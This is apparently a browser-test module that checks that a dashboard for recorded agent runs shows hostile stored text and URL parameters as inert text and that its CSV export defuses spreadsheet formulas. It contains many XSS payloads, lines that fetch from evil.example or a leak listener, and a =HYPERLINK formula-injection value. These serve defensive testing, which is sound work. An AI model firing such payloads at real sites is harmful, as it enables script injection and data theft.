"""Stored text an agent controls, and hostile URL parameters, stay inert in a real browser.

Every field an agent or an annotator writes (task, answer, agent, source, models,
tool names, arguments and their keys, results, thinking, errors, attribute keys,
the conversation, annotation labels, notes and authors) carries markup that would
run script, load a remote resource or style the page if it were rendered as HTML
or Markdown. Each page showing them is opened in headless Chromium: no script
ran, nothing was fetched from outside the dashboard, the text is shown as text.
"""

from __future__ import annotations

import csv
import io
import json
import re
import threading
import urllib.parse
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from dashboard.formatting import visible_text
from instrumentation import agent_run
from tests.dashboard.browser_support import Served
from tests.dashboard.conftest import api_runs, traced_into
from tests.support import wait_until

pytestmark = pytest.mark.browser


class LeakListener:
    """A loopback HTTP server counting every request: a fetch here is a leak."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
                return

            def do_GET(self) -> None:  # noqa: N802
                listener.paths.append(self.path)
                self.send_response(204)
                self.end_headers()

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture(scope="module")
def leak() -> Iterator[LeakListener]:
    listener = LeakListener()
    yield listener
    listener.stop()


def payloads(where: str, leak_url: str) -> str:
    """Markup that runs script, fetches ``leak_url`` or styles the page if rendered."""
    return (
        f"{where} <img src=x onerror=\"window.__xss='{where}'\">"
        f"<svg onload=\"window.__xss='{where}'\"></svg>"
        f"</script><script>window.__xss='{where}'</script>"
        f"<iframe srcdoc=\"<script>parent.__xss='{where}'</script>\"></iframe>"
        f" ![img]({leak_url}/md-image/{where}) [click](javascript:window.__xss='{where}')"
        f" <a href=\"javascript:window.__xss='{where}'\">a</a>"
        f' <style>body{{background:url("{leak_url}/css/{where}")}}</style>'
        f' <link rel=stylesheet href="{leak_url}/link/{where}">'
        f" :red[red-{where}] $x^2$ {{{{7*7}}}} \u202etxet-lrt"
        # Other hosts (any request to one is recorded), and the closing of the page
        # preview's own markup (a template in a div, then a script).
        f" ![ref][r-{where}] <https://evil.example/auto/{where}> https://evil.example/{where}.png"
        f"\n\n[r-{where}]: https://evil.example/ref/{where}.png\n\n"
        f'<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">'
        f'<object data="https://evil.example/obj"></object></template></div></main>'
        f"<script>window.__xss='{where}-closed'</script><noscript><p title=\"</noscript>"
        f"<img src=x onerror=window.__xss='{where}-noscript'>\"></noscript> $$\\int_0^1 x$$"
        f" {where}-end"
    )


def _record_hostile_run(leak_url: str, *, fail: bool) -> str:
    def p(where: str) -> str:
        return payloads(where, leak_url)

    run_id = ""
    try:
        with agent_run(
            p("task"),
            agent_name=p("agent"),
            source=p("source"),
            triggered_by=p("trigger"),
            model_requested=p("model"),
            metadata={p("meta-key"): p("meta-value")},
        ) as run:
            run_id = run.id
            run.set_model_used(p("served-model"))
            with run.step("think", model=p("step-model")) as think:
                think.set_thinking(p("thinking"))
                think.set_tokens(input_tokens=10, output_tokens=5)
                messages = [
                    {"role": "user", "parts": [{"type": "text", "content": p("message")}]},
                    {
                        "role": p("role"),
                        "parts": [
                            {
                                "type": "tool_call",
                                "id": p("call-id"),
                                "name": p("call-name"),
                                "arguments": {p("call-arg-key"): p("call-arg")},
                            }
                        ],
                    },
                ]
                think.set_attribute("gen_ai.input.messages", json.dumps(messages))
                think.set_attribute(p("attr-key"), p("attr-value"))
            with run.step(
                "tool_call", tool_name=p("tool"), tool_args={p("arg-key"): p("arg")}
            ) as tool:
                tool.set_result(p("result"))
            with run.step("tool_call", tool_name=p("failing-tool")) as broken:
                broken.set_error(RuntimeError(p("step-error")))
            with run.step("response") as response:
                response.set_result(p("answer"))
            if fail:
                raise RuntimeError(p("run-error"))
            run.finish(final_answer=p("answer"))
    except RuntimeError:
        pass
    return run_id


@pytest.fixture(scope="module")
def hostile_runs(served: Served, leak: LeakListener) -> tuple[str, str]:
    traced_into(served.collector)
    first = _record_hostile_run(leak.url, fail=False)
    second = _record_hostile_run(leak.url, fail=True)
    wait_until(
        lambda: (
            {r["id"] for r in api_runs(served.seeded.api_url) if r["status"] != "running"}
            >= {first, second}
        ),
        timeout_s=20,
        what="the hostile runs stored",
    )
    for run_id in (first, second):
        for kind, value in (("label", "label"), ("note", "note"), ("bad", None)):
            author = f"<img src=x onerror=\"window.__xss='{kind}'\"> :red[{kind}]"
            body: dict[str, Any] = {"kind": kind, "author": author}
            if value is not None:
                body["value"] = payloads(value, leak.url)[:900]
            answer = httpx.post(
                f"{served.seeded.api_url}/agent/runs/{run_id}/annotations", json=body, timeout=5
            )
            assert answer.status_code in (200, 201), answer.text
    return first, second


# Every URL Chromium asks for during a test of this module (the fixture below).
_REQUESTED: list[str] = []


@pytest.fixture(autouse=True)
def every_request(served: Served) -> Iterator[None]:
    page: Any = served.page
    _REQUESTED.clear()
    page.on("request", _record_request)
    yield
    page.remove_listener("request", _record_request)


def _record_request(request: Any) -> None:
    _REQUESTED.append(request.url)


def _inert(page: Any, leak: LeakListener, where: str) -> None:
    """Nothing ran, nothing was fetched, no markup became elements."""
    page.wait_for_timeout(300)  # let late scripts and image loads happen, if any would
    assert page.evaluate("window.__xss") is None, f"script ran on {where}"
    assert leak.paths == [], f"{where} fetched {leak.paths}"
    # Not from any host at all but the dashboard's own origin.
    parts = urllib.parse.urlsplit(page.url)
    own = f"{parts.scheme}://{parts.netloc}/"
    foreign = [u for u in _REQUESTED if not u.startswith((own, "data:", "blob:"))]
    assert foreign == [], f"{where} asked other origins: {foreign[:5]}"
    main = page.locator("[data-testid=stMain]")
    assert main.locator("img[src='x'], svg[onload], iframe[srcdoc], script").count() == 0
    assert main.locator("a[href^='javascript']").count() == 0
    assert main.locator(".stMarkdownColoredText, .katex").count() == 0


def test_every_page_shows_stored_markup_as_text(
    served: Served, leak: LeakListener, hostile_runs: tuple[str, str]
) -> None:
    page: Any = served.page
    first, second = hostile_runs
    pages = {
        "runs list": ("/", "task <img"),
        "runs list, narrow": ("/", "task <img"),
        "run": (f"/run?run={first}", "Steps (4)"),
        "failed run": (f"/run?run={second}", "Steps (4)"),
        "model step": (f"/run?run={first}&step=1", "Step 1 · "),
        "tool step": (f"/run?run={first}&step=2", "Step 2 · "),
        "failed step": (f"/run?run={first}&step=3", "Step 3 · "),
        "compare": (f"/compare?a={first}&b={second}", "Steps, aligned"),
        "stats": ("/stats", "Runs"),
    }
    for name, (path, shown) in pages.items():
        page.set_viewport_size(
            {"width": 390, "height": 844} if "narrow" in name else {"width": 1400, "height": 1000}
        )
        page.goto(f"{served.url}{path}")
        page.get_by_text(shown).first.wait_for(state="attached")
        _inert(page, leak, name)
        if path.startswith("/run"):  # shown as text instead
            assert "<img src=x" in page.locator("[data-testid=stMain]").inner_text(), name
    page.set_viewport_size({"width": 1400, "height": 1000})


HOSTILE_PARAMETERS = [
    "status=<script>window.__xss=1</script>",
    # Long values (Chromium's request for a 100,000-character URL is refused by the server).
    "status=" + "x" * 30_000,
    "status=running&status=" + urllib.parse.quote('"><img src=x onerror=window.__xss=1>'),
    "run=" + urllib.parse.quote("<img src=x onerror=window.__xss=1>"),
    "run=" + "a" * 30_000,
    "run=%00%ff%fe",
    "step=-1&run=x",
    "q=" + urllib.parse.quote("<svg onload=window.__xss=1>"),
    "a=javascript:alert(1)&b=" + urllib.parse.quote("<script>"),
]


@pytest.mark.parametrize("query", HOSTILE_PARAMETERS, ids=range(len(HOSTILE_PARAMETERS)))
def test_hostile_url_parameters_are_inert_and_the_page_answers(
    served: Served, leak: LeakListener, query: str
) -> None:
    page: Any = served.page
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    for path in ("/", "/run", "/compare", "/live"):
        page.goto(f"{served.url}{path}?{query}")
        page.locator("[data-testid=stMain]").first.wait_for()
        page.wait_for_function(
            "() => !document.querySelector('[data-testid=stStatusWidget]')"
            " || !/Running/.test(document.querySelector('[data-testid=stStatusWidget]').innerText)",
            timeout=20_000,
        )
        _inert(page, leak, f"{path}?{query[:40]}")
        assert not page.locator("[data-testid=stException]").count(), f"{path}: a traceback"
    assert not [e for e in errors if re.search("xss", e)], errors


def test_a_running_run_with_stored_markup_is_inert_on_the_live_page(
    served: Served, leak: LeakListener, hostile_runs: tuple[str, str]
) -> None:
    page: Any = served.page
    traced_into(served.collector)
    release, started = threading.Event(), threading.Event()
    ids: list[str] = []

    def running_agent() -> None:
        def p(where: str) -> str:
            return payloads(where, leak.url)

        with agent_run(
            p("live-task"), source=p("live-source"), model_requested=p("live-model")
        ) as run:
            ids.append(run.id)
            with run.step(
                "tool_call", tool_name=p("live-tool"), tool_args={"k": p("live-arg")}
            ) as step:
                step.set_result(p("live-result"))
            started.set()
            release.wait(60)

    agent = threading.Thread(target=running_agent, daemon=True)
    agent.start()
    try:
        assert started.wait(20)
        wait_until(
            lambda: any(
                r["id"] == ids[0] for r in api_runs(served.seeded.api_url, status="running")
            ),
            timeout_s=20,
            what="the hostile run running",
        )
        page.goto(f"{served.url}/live")
        page.get_by_text("live-task <img").first.wait_for(state="attached")
        page.get_by_text("live-tool <img").first.wait_for(state="attached")
        _inert(page, leak, "live")
    finally:
        release.set()
        agent.join(30)


def _record_unruly_run(token: str) -> str:
    """A run whose stored text is one unbroken 20,000-character word, shortcodes,
    control, bidi and zero-width characters."""
    unbroken = token + "W" * 20_000
    odd = (
        f"{token} :smile: :material/home: :rainbow[x] "
        "\x1b[31mred\x00 \u202eevil\u202c \u200b\ufeff end"
    )
    with agent_run(f"{odd} {unbroken}", agent_name=unbroken, source=odd) as run:
        with run.step("tool_call", tool_name=odd, tool_args={"w": unbroken}) as step:
            step.set_result(f"{odd}\n{unbroken}")
        with run.step("tool_call", tool_name=unbroken) as broken:
            broken.set_error(RuntimeError(f"{odd} {unbroken}"))
        run.finish(final_answer=f"{odd} {unbroken}")
        return run.id


def test_unbroken_words_shortcodes_and_control_characters_stay_in_the_page(
    served: Served, leak: LeakListener
) -> None:
    page: Any = served.page
    traced_into(served.collector)
    token = "unruly-run"
    run_id = _record_unruly_run(token)
    wait_until(
        lambda: any(
            r["id"] == run_id and r["status"] != "running" for r in api_runs(served.seeded.api_url)
        ),
        timeout_s=20,
        what="the unruly run stored",
    )
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    for width in (1400, 390):
        page.set_viewport_size({"width": width, "height": 900})
        for path in (
            "/",
            f"/run?run={run_id}",
            f"/run?run={run_id}&step=1",
            f"/run?run={run_id}&step=2",
            f"/compare?a={run_id}&b={run_id}",
            "/live",
        ):
            page.goto(f"{served.url}{path}")
            page.locator("[data-testid=stMain]").first.wait_for()
            if path != "/live":
                page.get_by_text(token).first.wait_for(state="attached")
            _inert(page, leak, path)
            assert not page.locator("[data-testid=stException]").count(), f"{path}: a traceback"
            # The 20,000-character word wraps or scrolls inside its box: the page
            # itself never grows sideways.
            overflow = page.evaluate(
                "() => document.scrollingElement.scrollWidth - window.innerWidth"
            )
            assert overflow <= 1, f"{path} at {width}px is {overflow}px too wide"
            text = page.locator("[data-testid=stMain]").inner_text()
            if path.startswith("/run"):
                # Shortcodes shown as typed, not as an emoji or an icon.
                assert ":smile:" in text.replace("\u200b", ""), path
                assert "\U0001f604" not in text, path
                # Control characters shown as escapes, not sent to the terminal-less DOM.
                assert "\x1b" not in text and "\x00" not in text, path
                # Bidi overrides and zero-width characters shown too: none reorders or
                # hides the text around it.
                assert not set(text) & set("\u202e\u202c\ufeff"), path
                assert "\\u202eevil\\u202c" in text, path
    assert errors == [], errors
    page.set_viewport_size({"width": 1400, "height": 1000})


# A spreadsheet evaluates a cell starting with one of these (collector/csv_cells.py).
FORMULA_TASK = '=HYPERLINK("{leak}/csv?"&A1,"open")'
FORMULA_ANSWER = "@SUM(1,1)"
FORMULA_AGENT = "-2+3"


def _run_sql_page(page: Any, served: Served, query: str, *, shown: str) -> None:
    """Type ``query`` on the SQL page, run it, and wait for ``shown`` (a selector).

    The collector's SQL worker is made ready first through the API, so the page's
    one run of the query is answered, not told to wait for the worker's copy."""

    def ready() -> bool:
        answer = httpx.post(f"{served.seeded.api_url}/sql", json={"sql": "SELECT 1"}, timeout=30)
        return answer.status_code == 200

    wait_until(ready, timeout_s=90, interval_s=1, what="the SQL worker's copy")
    page.goto(f"{served.url}/sql")
    box = page.locator("textarea").first
    box.fill(query)
    box.press("Control+Enter")
    page.get_by_role("button", name="Run query").click()
    page.locator(shown).first.wait_for()


def test_sql_page_shows_stored_markup_as_text_and_its_csv_holds_no_formula(
    served: Served, leak: LeakListener, hostile_runs: tuple[str, str]
) -> None:
    page: Any = served.page
    traced_into(served.collector)
    with agent_run(FORMULA_TASK.format(leak=leak.url), agent_name=FORMULA_AGENT) as run:
        run.finish(final_answer=FORMULA_ANSWER)
    formula_id = run.id
    wait_until(
        lambda: any(
            r["id"] == formula_id and r["status"] == "completed"
            for r in api_runs(served.seeded.api_url)
        ),
        timeout_s=20,
        what="the formula run stored",
    )
    ids = ", ".join(f"'{i}'" for i in (*hostile_runs, formula_id))
    _run_sql_page(
        page,
        served,
        "SELECT id, task, final_answer, agent_name, error, -5 AS n"
        f" FROM agent_runs WHERE id IN ({ids}) ORDER BY id",
        shown="[data-testid=stDownloadButton]",
    )
    _inert(page, leak, "sql results")
    with page.expect_download() as download:
        page.get_by_role("button", name="Download CSV").click()
    rows = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text("utf-8"))))
    by_id = {row["id"]: row for row in rows}
    assert set(by_id) == {*hostile_runs, formula_id}
    formula = by_id[formula_id]
    assert formula["task"] == "'" + FORMULA_TASK.format(leak=leak.url)
    assert formula["final_answer"] == "'" + FORMULA_ANSWER
    assert formula["agent_name"] == "'" + FORMULA_AGENT
    assert {row["n"] for row in rows} == {"-5"}  # a number stays a number
    # The markup is in the file as the text it was.
    assert by_id[hostile_runs[0]]["task"].startswith("task <img src=x onerror=")

    # A refused query naming markup: its reason is shown as text.
    _run_sql_page(
        page,
        served,
        # A column of that name does not exist: the refusal quotes it.
        'SELECT "<img src=x onerror=window.__xss=1>" FROM agent_runs',
        shown="[data-testid=stCode]",
    )
    main = page.locator("[data-testid=stMain]")
    assert "The collector refused the query" in main.inner_text()
    assert "<img src=x onerror=window.__xss=1>" in main.inner_text()
    _inert(page, leak, "sql refusal")
    assert leak.paths == []


ODD = "\x1b[31mred\x00 \u202eevil\u202c \u200b\ufeff\u2066end"


def _record_odd_attributes_run(token: str) -> str:
    """A run whose model step carries control, bidi and zero-width characters in its raw
    attributes (keys and values), an event and its transcript's tool-call arguments."""
    with agent_run(f"{token} task") as run:
        with run.step("think", model="m") as think:
            messages = [
                {"role": "user", "parts": [{"type": "text", "content": f"{token} ask"}]},
                {
                    "role": "assistant",
                    "parts": [
                        {
                            "type": "tool_call",
                            "id": "call-1",
                            "name": "probe",
                            "arguments": {f"arg{ODD}": f"value {ODD}"},
                        }
                    ],
                },
            ]
            think.set_attribute("gen_ai.input.messages", json.dumps(messages))
            # Straight on the span: a sender need not use this package's cleaning.
            think.span.set_attribute(f"odd.key{ODD}", f"odd value {ODD}")
            think.span.set_attribute("odd.list", [f"item {ODD}"])
            think.span.add_event(f"odd event{ODD}", {"detail": f"event value {ODD}"})
        run.finish(final_answer="done")
        return run.id


def _shown_by_code(text: str, where: str, *, as_json: bool) -> None:
    assert not set(text) & set("\x1b\x00\u202e\u202c\u200b\ufeff\u2066"), where
    if as_json:
        # st.json writes each string as a JSON literal: the codes' backslashes doubled.
        assert visible_text(ODD).replace("\\", "\\\\") in text, where
    else:
        assert "\\u202eevil\\u202c \\u200b\\ufeff\\u2066end" in text, where


def test_raw_attributes_and_tool_call_arguments_show_hidden_characters_by_code(
    served: Served,
) -> None:
    from playwright.sync_api import expect

    page: Any = served.page
    traced_into(served.collector)
    token = "odd-attributes"
    run_id = _record_odd_attributes_run(token)
    wait_until(
        lambda: any(
            r["id"] == run_id and r["status"] == "completed"
            for r in api_runs(served.seeded.api_url)
        ),
        timeout_s=20,
        what="the run with odd attributes stored",
    )
    page.set_viewport_size({"width": 1400, "height": 1000})
    page.goto(f"{served.url}/run?run={run_id}&step=1")
    main = page.locator("[data-testid=stMain]")
    page.get_by_text("Step 1 · ").first.wait_for(state="attached")
    page.get_by_role("tab", name="Attributes").click()
    json_view = main.locator("[data-testid=stJson]").first
    json_view.wait_for()
    page.get_by_text("odd value").first.wait_for()
    _shown_by_code(json_view.inner_text(), "raw attributes", as_json=True)
    events = main.locator("[data-testid=stJson]").nth(1)
    for _ in range(3):  # an event, then its attributes, open on a click each
        if "event value" in events.inner_text():
            break
        shown = events.inner_text()
        events.locator(".collapsed-icon").first.click()
        expect(events).not_to_have_text(shown)
    assert "event value" in events.inner_text(), events.inner_text()
    _shown_by_code(events.inner_text(), "events", as_json=True)
    page.get_by_role("tab", name="Transcript").click()
    arguments = main.get_by_text("value \\u001b").first
    arguments.wait_for()
    _shown_by_code(arguments.inner_text(), "tool-call arguments", as_json=False)
